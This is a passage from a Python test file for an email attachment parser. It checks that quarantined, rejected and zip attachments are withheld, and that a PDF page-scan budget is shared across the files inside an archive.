        raw = (CORPUS / label["file"]).read_bytes()
        mail = parse(raw, LIMITS)
        refused = {m.split(":", 1)[1].replace("\\", "/").rsplit("/", 1)[-1]
                   for m in label["must"] if m.startswith(("quarantine-attachment:",
                                                           "reject-attachment:"))}
        if "no-unbounded-decompression" in label["must"]:
            refused |= {a.name for a in mail.attachments if a.name.endswith(".zip")}
        withheld = {a.name for a in mail.attachments if a.withheld}
        assert withheld == refused, (label["file"], withheld, refused)


def test_the_pdf_page_budget_is_shared_by_the_pdfs_of_an_archive() -> None:
    three = pdf(pages=3)
    data = zipped([("a.pdf", three), ("b.pdf", three)])

    reading = read("ho-so.zip", data, limits=small(pdf_max_pages=1, pdf_scan_pages=4))

    assert [text.count("UBND") for _, text in reading.pieces] == [3, 1]
    assert reading.unread == (
        "ho-so.zip/b.pdf: các trang sau trang 1/3 chưa đọc (limits.pdf_scan_pages)",)
